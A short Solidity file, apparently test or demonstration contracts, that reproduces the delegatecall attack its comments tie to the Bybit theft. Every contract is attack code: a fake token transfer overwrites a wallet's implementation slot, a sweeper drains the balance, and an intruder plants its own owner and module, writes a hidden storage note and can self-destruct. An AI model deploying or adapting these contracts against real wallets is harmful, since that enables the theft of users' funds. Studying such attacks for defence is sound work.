// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.30;

/// What emptied Bybit: run by delegatecall, a call that reads like a token's transfer writes the
/// wallet's storage slot 0, where the address of its code stands.
contract Takeover {
    address private code;

    function transfer(address to, uint256) external returns (bool) {
        code = to;
        return true;
    }
}

/// Stands for the code that takes a wallet's place.
contract Sweeper {
    function sweep(address payable to) external {
        to.transfer(address(this).balance);
    }
}

/// Run by delegatecall, it makes an owner and a module of its own, and hides a note.
contract Intruder {
    address private code;
    mapping(address => address) private modules;
    mapping(address => address) private owners;

    function intrude(address owner, address module, bytes32 slot, bytes32 note) external {
        owners[owner] = address(1);
        modules[module] = address(1);
        assembly {
            sstore(slot, note)
        }
    }

    function destroy(address payable heir) external {
        selfdestruct(heir);
    }
}
